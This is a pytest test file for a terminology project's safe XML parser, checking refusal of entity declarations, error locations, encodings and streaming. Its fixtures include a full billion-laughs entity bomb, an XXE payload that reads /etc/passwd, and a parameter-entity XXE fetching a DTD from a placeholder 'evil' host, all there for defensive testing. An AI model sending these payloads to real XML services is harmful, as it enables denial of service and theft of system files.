"""The safe XML parser: entity bombs and external entities refused, errors located."""

from __future__ import annotations

import codecs
from collections.abc import Callable
from pathlib import Path

import pytest

from termbase.errors import FormatError, TextDecodingError
from termbase.formats.xmlsafe import iterparse_xml, parse_xml, read_xml, safe_xml_parser

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<lolz>&lol9;</lolz>
"""

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE foo [
  <!ELEMENT foo ANY>
  <!ENTITY xxe SYSTEM "file:///etc/passwd">
]>
<foo>&xxe;</foo>
"""

PARAMETER_XXE = b"""<?xml version="1.0"?>
<!DOCTYPE foo [ <!ENTITY % remote SYSTEM "http://example.invalid/evil.dtd"> %remote; ]>
<foo/>
"""

MALICIOUS = [
    pytest.param(BILLION_LAUGHS, 3, id="billion-laughs"),
    pytest.param(XXE, 4, id="external-entity"),
    pytest.param(PARAMETER_XXE, 2, id="parameter-entity"),
    pytest.param(BILLION_LAUGHS.decode().encode("utf-16"), 3, id="billion-laughs-utf16"),
]


@pytest.mark.parametrize(("document", "line"), MALICIOUS)
def test_entity_declarations_are_refused_with_file_and_line(document: bytes, line: int) -> None:
    with pytest.raises(FormatError) as caught:
        parse_xml(document, "evil.xml")
    error = caught.value
    assert error.path == "evil.xml"
    assert error.line == line
    assert "entity" in error.detail
    assert "root:" not in str(error)  # nothing from /etc/passwd


PAST_THE_PRESCAN = b'<?xml version="1.0"?>\n<!-- ' + b"x" * 70_000 + b' -->\n'
"""A prolog longer than the 64 KiB the prescan reads: what follows is seen only by the parser."""
PARSERS = [
    pytest.param(lambda document: parse_xml(document, "late.xml"), id="parse_xml"),
    pytest.param(lambda document: list(iterparse_xml(document, {"item"}, path="late.xml")), id="iterparse_xml"),
]


@pytest.mark.parametrize("parse", PARSERS)
@pytest.mark.parametrize(("doctype", "detail"), [
    (b'<!DOCTYPE item [<!ENTITY a "b">]>', "declares entity 'a'"),
    (b'<!DOCTYPE item [<!ENTITY % p "b">]>', "declares entity 'p'"),
    (b"<!DOCTYPE item [<!ELEMENT item ANY>]>", "internal DTD subset"),
])
def test_entity_check_after_parse_catches_what_the_prescan_misses(
        parse: Callable[[bytes], object], doctype: bytes, detail: str) -> None:
    document = PAST_THE_PRESCAN + doctype + b"\n<item><name>n</name></item>\n"
    with pytest.raises(FormatError) as caught:
        parse(document)
    assert (caught.value.path, caught.value.line) == ("late.xml", 3)  # the DOCTYPE's line, after the prolog's 2
    assert detail in caught.value.detail


@pytest.mark.parametrize("parse", PARSERS)
@pytest.mark.parametrize("encoding", ["UTF-8", "UTF-16"])
def test_an_entity_refused_after_parse_is_reported_at_its_own_line(parse: Callable[[bytes], object],
                                                                   encoding: str) -> None:
    document = (PAST_THE_PRESCAN.replace(b'"1.0"', f'"1.0" encoding="{encoding}"'.encode())
                + b'<!DOCTYPE item [\n  <!ELEMENT item ANY>\n  <!ENTITY a "b">\n]>\n<item/>\n')
    document = document.decode().encode(encoding.lower())
    with pytest.raises(FormatError) as caught:
        parse(document)
    assert (caught.value.line, caught.value.element) == (5, "<!ENTITY>")


@pytest.mark.parametrize("parse", PARSERS)
def test_undeclared_entity_reference_is_refused(parse: Callable[[bytes], object]) -> None:
    document = b'<?xml version="1.0"?>\n<!DOCTYPE list SYSTEM "l.dtd">\n<list><item><name>a&bar;b</name></item></list>\n'
    with pytest.raises(FormatError) as caught:
        parse(document)
    assert (caught.value.path, caught.value.line, caught.value.element) == ("late.xml", 3, "&bar;")


def test_doctype_without_entities_is_accepted_and_not_loaded() -> None:
    document = b'<?xml version="1.0"?>\n<!DOCTYPE tmx SYSTEM "http://example.invalid/tmx14.dtd">\n<tmx/>\n'
    assert parse_xml(document).getroot().tag == "tmx"


def test_syntax_error_has_path_line_and_message() -> None:
    with pytest.raises(FormatError) as caught:
        parse_xml(b"<a>\n<b>\n</a>\n", "broken.xml")
    assert (caught.value.path, caught.value.line) == ("broken.xml", 3)
    assert "not well-formed" in caught.value.detail


@pytest.mark.parametrize("document", [b"", b"  \n\t"], ids=["empty", "whitespace"])
def test_empty_document_is_a_format_error(document: bytes) -> None:
    with pytest.raises(FormatError, match="empty"):
        parse_xml(document, "empty.xml")


def test_binary_data_is_a_decoding_error() -> None:
    with pytest.raises(TextDecodingError, match="binary"):
        parse_xml(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "image.xml")


def test_bytes_invalid_in_declared_encoding_are_a_decoding_error() -> None:
    with pytest.raises(TextDecodingError) as caught:
        parse_xml(b'<?xml version="1.0" encoding="UTF-8"?>\n<a>\xff\xfe</a>', "latin.xml")
    assert caught.value.line == 2


@pytest.mark.parametrize("encoding", ["utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "utf-32"])
def test_unicode_encodings_are_read(encoding: str) -> None:
    text = '<?xml version="1.0" encoding="%s"?>\n<a>مجلس الأمن</a>' % encoding.split("-sig")[0].upper()
    data = text.encode(encoding)
    if encoding in ("utf-16-le", "utf-16-be"):
        data = (codecs.BOM_UTF16_LE if encoding.endswith("le") else codecs.BOM_UTF16_BE) + data
    assert parse_xml(data).getroot().text == "مجلس الأمن"


def test_declared_legacy_encoding_is_honoured() -> None:
    data = '<?xml version="1.0" encoding="windows-1256"?><a>مجلس</a>'.encode("cp1256")
    assert parse_xml(data).getroot().text == "مجلس"


def test_external_dtd_is_not_loaded(tmp_path: Path) -> None:
    dtd = tmp_path / "a.dtd"
    dtd.write_text('<!ATTLIST a x CDATA "from-dtd">', encoding="utf-8")
    document = f'<!DOCTYPE a SYSTEM "{dtd.as_uri()}"><a/>'.encode()
    assert parse_xml(document).getroot().get("x") is None
    assert safe_xml_parser() is not safe_xml_parser()  # one parser per use: not thread-shared


def test_read_xml_reads_a_file(tmp_path: Path) -> None:
    path = tmp_path / "doc.xml"
    path.write_bytes(b"<doc>\xd9\x86\xd8\xb5</doc>")
    assert read_xml(path).getroot().text == "نص"


@pytest.mark.parametrize("name", ["tbx-basic-package-v3/tbx_basic_sample_notwellformed.tbx",
                                  "test-files/poorly_formed_xml.tbx"])
def test_official_not_well_formed_files_are_refused(standards: Path, name: str) -> None:
    path = standards / "tbx" / name
    with pytest.raises(FormatError) as caught:
        read_xml(path)
    assert caught.value.path == str(path)
    assert caught.value.line is not None


def test_official_tmx_kit_files_parse(standards: Path) -> None:
    files = sorted((standards / "tmx" / "compliance-kit").glob("*.tmx"))
    assert len(files) == 23
    for path in files:
        assert read_xml(path).getroot().tag == "tmx"


# --- streaming ----------------------------------------------------------------------------------

def _stream_all(source: bytes | Path, tags: tuple[str, ...] = ("item",)) -> list[str]:
    return [element.findtext("name") or "" for element in iterparse_xml(source, tags, path="big.xml")]


def test_iterparse_yields_complete_elements_and_keeps_the_root_attributes() -> None:
    document = b'<list lang="ar"><item><name>\xd9\x86\xd8\xb5</name></item><item><name>b</name></item></list>'
    seen = []
    for element in iterparse_xml(document, {"item"}):
        seen.append((element.findtext("name"), element.getroottree().getroot().get("lang")))
    assert seen == [("نص", "ar"), ("b", "ar")]


def test_iterparse_drops_what_the_caller_has_seen() -> None:
    items = b"".join(b"<item><name>%d</name></item>" % n for n in range(100_000))
    attached = []
    for element in iterparse_xml(b"<list>" + items + b"</list>", {"item"}):
        parent = element.getparent()
        assert parent is not None and parent[0] is element  # everything before it is gone
        attached.append(len(parent))
    assert len(attached) == 100_000
    assert max(attached) < 5_000  # only what the parser has read ahead is still attached


@pytest.mark.parametrize(("document", "line"), MALICIOUS)
def test_iterparse_refuses_entity_declarations(document: bytes, line: int) -> None:
    with pytest.raises(FormatError) as caught:
        _stream_all(document)
    assert (caught.value.path, caught.value.line) == ("big.xml", line)


def test_an_internal_subset_without_entities_is_refused_too() -> None:
    document = b'<?xml version="1.0"?>\n<!DOCTYPE a SYSTEM "a.dtd"\n [\n<!ATTLIST a x CDATA "1">]>\n<a/>'
    for parse in (lambda: parse_xml(document, "subset.xml"), lambda: _stream_all(document)):
        with pytest.raises(FormatError) as caught:
            parse()
        assert caught.value.line == 3
        assert "internal DTD subset" in caught.value.detail


def test_iterparse_locates_a_syntax_error_past_the_first_chunk() -> None:
    document = b"<list>\n" + b"<item><name>x</name></item>\n" * 5000 + b"<item><name>y</item>\n</list>"
    with pytest.raises(FormatError) as caught:
        _stream_all(document)
    assert caught.value.line == 5002


def test_deep_nesting_is_refused_not_followed() -> None:
    depth = 100_000
    document = b"<a>" * depth + b"</a>" * depth
    for parse in (lambda: parse_xml(document, "deep.xml"), lambda: _stream_all(document, ("a",))):
        with pytest.raises(FormatError, match="not well-formed"):
            parse()


def test_a_huge_text_node_is_refused_without_huge_tree() -> None:
    document = b"<a>" + b"x" * 11_000_000 + b"</a>"
    with pytest.raises(FormatError):
        parse_xml(document, "huge.xml")


def test_iterparse_reads_a_utf16_file(tmp_path: Path) -> None:
    path = tmp_path / "doc.xml"
    path.write_bytes('<?xml version="1.0" encoding="UTF-16"?><list><item><name>أستانا</name></item></list>'.encode("utf-16"))
    assert _stream_all(path) == ["أستانا"]
